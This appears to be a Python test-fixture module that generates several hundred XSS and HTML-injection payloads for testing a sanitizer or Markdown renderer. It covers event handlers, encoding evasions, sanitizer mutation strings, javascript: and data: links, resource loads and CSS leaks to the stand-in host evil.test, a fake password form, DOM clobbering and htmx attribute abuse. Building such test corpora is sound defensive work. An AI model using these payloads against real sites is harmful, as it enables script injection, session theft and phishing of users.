# ruff: noqa: E501 - a payload is one line, as it is written
"""What somebody may write to run, frame, load, track or restyle something.

Each payload would set `window.ran`, ask evil.test for something, or take a place in the
page that is not its own. `PAYLOADS` is made of a few lists, so that one more tag or one
more way to write a link is tried in all places.
"""

RUN = "window.ran=1"
EVIL = "//evil.test/"

# --- HTML that runs something ---

EVENTS = {
    "onload": ["svg", "body", "iframe", "style", "link", "input type=image", "frameset"],
    "onerror": ["img src=x", "video src=x", "audio src=x", "object data=x", "script src=x",
                "link rel=stylesheet href=x", "image src=x", "input type=image src=x"],
    "onclick": ["a", "b", "div", "p", "button", "td", "summary", "label", "x-own", "kbd"],
    "onmouseover": ["a href=#", "code", "pre", "li", "h1", "table", "th", "font", "sub"],
    "onfocus autofocus tabindex=1": ["input", "a", "div", "select", "textarea", "details"],
    "ontoggle open": ["details", "dialog"],
    "onanimationstart": ["i", "marquee", "ins"],
    "onbegin": ["svg><animate", "svg><set attributeName=x"],
    "onpointerrawupdate": ["ul", "ol", "blockquote"],
    "onstart": ["marquee"],
    "onscroll": ["hr", "br"],
    "onbeforetoggle": ["div popover"],
    "onpageshow": ["body"],
    "oncut contenteditable": ["s", "del"],
    "oncontentvisibilityautostatechange": ["samp", "var"],
    "onwebkittransitionend": ["dl", "dt", "dd"],
    "onsubmit": ["form"],
    "onunload": ["frameset", "body"],
}  # fmt: skip
HANDLERS = [
    f"<{tag} {event.replace(' ', f'={RUN} ', 1) if ' ' in event else f'{event}={RUN}'}>x"
    for event, tags in EVENTS.items()
    for tag in tags
]
QUOTES = [
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror='{RUN}'>",
    f"<img src=x onerror=`{RUN}`>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img\tsrc=x\nonerror\r=\f{RUN}>",
    f"<img src=x onerror\x0b={RUN}>",
    f"<img src=x on\x00error={RUN}>",
    f"<i\x00mg src=x onerror={RUN}>",
    "<img src=x onerror=&#119;indow.ran=1>",
    "<img src=x onerror=&#x77;indow&period;ran&equals;1>",
    f"<img src=x:x onerror={RUN} alt='",
    f"<img src='x' title='a>b' onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img src=x onerror={RUN}\n",
    f"< img src=x onerror={RUN}>",
    f"<img src=x\u2028onerror={RUN}>",
    f"<img src=x\xa0onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"<im\u200bg src=x onerror={RUN}><img\u200b src=x onerror={RUN}>",
    f"\ufeff<img src=x onerror={RUN}>",
    f"＜img src=x onerror={RUN}＞",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</script><img src=x onerror={RUN}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</td></tr></table><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"{{{{ {RUN} }}}} ${{{RUN}}} #{{{RUN}}} {{% {RUN} %}}",
]
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script/y>",
    f"<script src={EVIL}x.js></script>",
    f"<script type=module>import '{EVIL}x.js'</script>",
    f'<script type=importmap>{{"imports":{{"x":"{EVIL}x.js"}}}}</script>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    f"<script>/*<!--*/{RUN}//--></script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY y '{RUN}'>]><script>&y;</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><script xlink:href='{EVIL}x.js'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<svg><handler type=text/javascript>{RUN}</handler></svg>",
    f"<math><a href='javascript:{RUN}'>x</a></math>",
    f"<math xlink:href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<xml:namespace prefix=t><import namespace=t implementation='{EVIL}'>",
    f"<isindex action=javascript:{RUN} type=image>",
]  # fmt: skip

# --- what a sanitizer and a browser may read in two ways ---

TWO_READINGS = [
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<style><img src='</style><img src=x onerror={RUN}>'></style>",
    f"<style><!--</style><img src=x onerror={RUN}>--></style>",
    f"<title><img src='</title><img src=x onerror={RUN}>'></title>",
    f"<textarea><img src='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'></iframe>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    f"<img onerror={RUN} src>'></form>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={RUN}&gt;'>",
    f"<math><mi><table><mglyph><style><math href=javascript:{RUN}>x",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<svg><p><style><a title='</style><img src onerror={RUN}>'>",
    f"<svg><desc><noscript>&lt;/noscript&gt;&lt;img src onerror={RUN}&gt;</noscript>",
    f"<svg><title><style><img src='</style><img src=x onerror={RUN}>'></title>",
    f"<math><annotation-xml encoding='text/html'><style><img src='</style>"
    f"<img src=x onerror={RUN}>'></annotation-xml>",
    f"<math><style><img src='</style><img src=x onerror={RUN}>'></math>",
    f"<table><tr><img src=x onerror={RUN}><td>x</table>",
    f"<table><caption><svg><caption><style><img title='</style><img src onerror={RUN}>'>",
    f"<table><a href=javascript:{RUN}><td>x</table>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<p><svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>",
    f"<a title='&quot;><img src=x onerror={RUN}>'>x</a>",
    f'<a title="`><img src=x onerror={RUN}>">x</a>',
    f"<a href='x' title='--><img src=x onerror={RUN}>'>x</a>",
    f"<b><i></b><img src=x onerror={RUN}></i>",
    f"<p><p><p></p></b></table></ul></div></main></body></html><img src=x onerror={RUN}>",
    f"<a><a><form><form><button form=x formaction=javascript:{RUN}>x",
    "<div>" * 200 + f"<img src=x onerror={RUN}>",
    "<b><i>" * 60 + f"<p><img src=x onerror={RUN}>",
    f"<div\n\n><img src=x\n\nonerror={RUN}>\n\n</div>",
    f"<div>\n\n*a*<img src=x onerror={RUN}>\n\n</div>",
    f"<details><summary>\n\n<img src=x onerror={RUN}>\n\n</summary></details>",
]  # fmt: skip

# --- addresses that run ---

SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&#10;script&#58;{RUN}",
    f"java&NewLine;script&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript&#0;:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"javascript://evil.test/%0a{RUN}",
    f"view-source:javascript:{RUN}",
    "data:text/html,<script>window.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=window.ran=1>",
    "DATA:text/html;charset=utf-8,x",
    "vbscript:msgbox(1)",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "filesystem:https://evil.test/x",
    "feed:javascript:1",
    "jar:https://evil.test!/",
    "ws://evil.test/",
    "tel:1",
    "intent://evil.test#Intent;end",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "[![x]({})](https://good.test)",
    "[x]\n\n[x]: {}",
    "[x][]\n\n[x]: <{}>",
    "![x][y]\n\n[y]: {}",
    "<{}>",
    "{}",
    "<a href='{}'>x</a>",
    '<a href=" {}">x</a>',
    "<a href={}>x</a>",
    "- [x] [x]({})",
    "| [x]({}) |\n|---|\n| <a href='{}'>x</a> |",
    "> [x]({})",
    "# [x]({})",
    "1. <{}>",
    "**[x]({})** `[x]({})`",
]
LINKS = [
    form.replace("{}", scheme)
    for number, scheme in enumerate(SCHEMES)
    for form in (FORMS if number < 3 else FORMS[number % 5 :: 5])
]

# --- what would be loaded, sent, framed or followed ---

LOADS = [
    f"<img src={EVIL}a>",
    f"<img srcset='{EVIL}b 1x, {EVIL}c 2x'>",
    f"<picture><source srcset={EVIL}d><img src=x></picture>",
    f"<video poster={EVIL}e src={EVIL}f autoplay></video>",
    f"<audio src={EVIL}g autoplay></audio>",
    f"<video><source src={EVIL}h><track src={EVIL}i default></video>",
    f"<input type=image src={EVIL}j>",
    f"<body background={EVIL}k>",
    f"<table background={EVIL}l><td background={EVIL}m>x</table>",
    f"<a ping={EVIL}n href=/>x</a>",
    f"<iframe src={EVIL}o></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<frameset><frame src={EVIL}p></frameset>",
    f"<object data={EVIL}q></object>",
    f"<object><param name=movie value={EVIL}r></object>",
    f"<embed src={EVIL}s>",
    f"<applet code=x archive={EVIL}t></applet>",
    f"<portal src={EVIL}u></portal>",
    f"<fencedframe src={EVIL}v></fencedframe>",
    f"<link rel=stylesheet href={EVIL}w>",
    f"<link rel=prefetch href={EVIL}x>",
    f"<link rel=preload as=script href={EVIL}y>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=preconnect href={EVIL}>",
    f"<link rel=prerender href={EVIL}z>",
    f"<link rel=modulepreload href={EVIL}z1>",
    f"<link rel=manifest href={EVIL}z2>",
    f"<link rel=icon href={EVIL}z3>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}\"]}}]}}</script>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
    "<meta http-equiv=Set-Cookie content=sessionid=x>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta name=referrer content=unsafe-url>",
    f"<form action={EVIL}><input name=password><button>Sign in again</button></form>",
    f"<button form=x formaction={EVIL}>x</button>",
    f"<input type=submit formaction={EVIL}>",
    f"<input type=checkbox form=item-1-form formaction={EVIL} name=done>",
    "<input type=text name=csrfmiddlewaretoken value=x>",
    "<input type=file><input type=password><input type=hidden name=seen value=9>",
    "<keygen name=x><isindex><datalist id=x><option>x</datalist>",
    f"<svg><image href={EVIL}aa /></svg>",
    f"<svg><use href={EVIL}ab#x /></svg>",
    f"<svg><filter><feImage href={EVIL}ac /></filter></svg>",
    f"<svg><style>@import '{EVIL}ad'</style></svg>",
    f"<math><mglyph src={EVIL}ae /></math>",
    f"![x]({EVIL}af)",
    "![x](https://evil.test/ag.png)",
    "[![x](https://evil.test/ah.png)](https://evil.test/)",
    "![x][p]\n\n[p]: https://evil.test/ai.png",
    f"<style>@import url({EVIL}aj);</style>",
    f"<style>*{{background:url({EVIL}ak)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}al)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({EVIL}am)}}</style>",
    f"<p style='background:url({EVIL}an)'>x</p>",
    f"<p style='background-image:image-set(\"{EVIL}ao\" 1x)'>x</p>",
    f"<p style='behavior:url({EVIL}x.htc);-moz-binding:url({EVIL}y)'>x</p>",
    f"<ul style='list-style:url({EVIL}ap)'><li>x</ul>",
    f"<td style='cursor:url({EVIL}aq),auto'>x</td>",
]  # fmt: skip

# --- what would restyle, cover or steer our pages ---

TAKES_PLACE = [
    "<div style='position:fixed;inset:0;z-index:9;background:red'>x</div>",
    "<p style=position:absolute;top:0>x</p>",
    "<style>body{display:none}</style>",
    "<style>.markdown *{position:fixed}</style>",
    "<font size=999 color=red face=x>x</font>",
    "<marquee>x</marquee><blink>x</blink>",
    "<dialog open>x</dialog>",
    "<div popover id=x>x</div><button popovertarget=x>x</button>",
    "<table width=9999 height=9999 bgcolor=red border=99><td>x</table>",
    "<center>x</center><hr width=99999 size=999>",
    *(
        f"<{tag} class='{name}'>x</{tag}>"
        for tag, name in [
            ("div", "toast"), ("div", "toasts"), ("div", "site-header"),
            ("ul", "menu-list"), ("li", "task-list-item toast"), ("p", "notice"),
            ("span", "mention"), ("span", "visually-hidden"), ("a", "button"),
            ("code", "language-x toast"), ("code", "toast language-x"),
            ("input type=checkbox", "button"), ("dialog", "dialog"), ("b", "sheet"),
        ]
    ),
    *(
        f"<{tag} {attribute}={name}>x</{tag}>"
        for tag in ("a", "form", "div")
        for attribute in ("id", "name")
        for name in ("plan", "toasts", "announcer", "threads", "body", "cookie",
                     "location", "getElementById", "__proto__", "htmx", "item-1-form")
    ),
    "<a id=x><a id=x name=y href=javascript:window.ran=1>",
    "<img name=currentScript><form id=attributes><input name=attributes>",
    *(
        f"<{tag} {attribute}>x</{tag.split()[0]}>"
        for tag in ("div", "a href=/", "button")
        for attribute in (
            f"hx-get={EVIL} hx-trigger=load",
            f"hx-post={EVIL} hx-trigger=revealed",
            f"data-hx-get={EVIL} data-hx-trigger=load",
            f"hx-on:click={RUN}",
            f"hx-on::load={RUN}",
            f"hx-trigger=\"load[{RUN}]\" hx-get=/",
            f"hx-vals='js:{{x:{RUN}}}' hx-get=/ hx-trigger=load",
            "hx-delete=/ hx-trigger='every 1s'",
            f"hx-sse:connect={EVIL}",
            "hx-swap-oob=true id=toasts",
            "hx-headers:inherited='{\"X-CSRFToken\": \"x\"}'",
            "hx-boost=true hx-ext=x hx-target=body",
            "data-do=remove",
            "data-do=comments hx-get=/",
            "data-keep id=main",
            "data-plan=x data-change=999999",
            "data-mentions=threads-members data-user=1",
            f"data-feed-worker={EVIL}",
            f"action={EVIL} method=post data-said=x",
        )
    ),
    f"<hx-partial hx-target='#main' hx-swap=innerHTML><b>{RUN}</b></hx-partial>",
    "<div slot=x part=x is=x itemscope itemid=x contenteditable accesskey=s dir=rtl>x</div>",
    "<ol start=-999999999 reversed type=i><li value=9>x</ol>",
    "<td colspan=9999 rowspan=9999>x</td>",
    "<details open name=x><summary>x</summary>x</details>",
    "<a target=_top href=https://evil.test/>x</a>",
    "<a rel=opener download=x href=https://evil.test/>x</a>",
    "<h1>Sign in again</h1><hr><blockquote cite=javascript:1>x</blockquote>",
]  # fmt: skip

# --- Markdown of its own ---

MARKDOWN = [
    f"```\"onmouseover=\"{RUN}\nx\n```",
    f"```<img src=x onerror={RUN}>\nx\n```",
    f"```html toast\" onclick=\"{RUN}\n<script>{RUN}</script>\n```",
    f"~~~x' autofocus onfocus='{RUN}\nx\n~~~",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"```mermaid\nclick x \"javascript:{RUN}\"\n```",
    f"`</code><script>{RUN}</script>`",
    f"    </code><script>{RUN}</script>",
    f"[x](https://e.test/\"onmouseover=\"{RUN})",
    f"[x](https://e.test 'y\" onmouseover=\"{RUN}')",
    f"![\" onerror=\"{RUN}](https://evil.test/x)",
    f"![<img src=x onerror={RUN}>](https://evil.test/x)",
    f"[<img src=x onerror={RUN}>](https://e.test)",
    f"[x]: https://e.test '\"><img src=x onerror={RUN}>'\n\n[x]",
    f"[x\"onclick=\"{RUN}]: https://e.test\n\n[x\"onclick=\"{RUN}]",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"https://e.test/\"onmouseover=\"{RUN}",
    f"https://e.test/<img/src=x/onerror={RUN}>",
    f"www.e.test/'onclick='{RUN}",
    f"me@e.test\"onclick=\"{RUN}",
    f"<https://e.test/\"onclick=\"{RUN}>",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <svg onload={RUN}> |",
    f"| x |\n|:-\"onclick={RUN}:|\n| y |",
    f"- [ ] <img src=x onerror={RUN}>\n- [x] <svg onload={RUN}>",
    f"# <img src=x onerror={RUN}> {{#id onclick={RUN}}}",
    f"x {{: onclick={RUN} style=position:fixed }}",
    f"<!-- --><script>{RUN}</script>-->",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\unicode{{<img src=x onerror={RUN}>}}\\)",
    f"@dana<img src=x onerror={RUN}> @alice\"onclick=\"{RUN}",
    f"\x02wzxhzdk:0\x03<img src=x onerror={RUN}>\x02amp\x03",
    f"**<img src=x onerror={RUN}>** _<svg onload={RUN}>_ ~~<b onclick={RUN}>x~~",
    f"&NotEqualTilde;<img src=x onerror={RUN}>&#xD800;&#0;&#x110000;",
    "\u202ekcatta\u202c \u2066x\u2069 \u200d\u200c\u2060\ufe0f zero\u200bwidth",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "x" * 3_000,
    f":::note onclick={RUN}\nx\n:::",
    f"---\ntitle: <script>{RUN}</script>\n---",
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        [
            *HANDLERS,
            *QUOTES,
            *SCRIPTS,
            *TWO_READINGS,
            *LINKS,
            *LOADS,
            *TAKES_PLACE,
            *MARKDOWN,
        ]
    )
)
# What fits into a name.
SHORT = [payload for payload in PAYLOADS if len(payload) < 90 and payload.isprintable()]
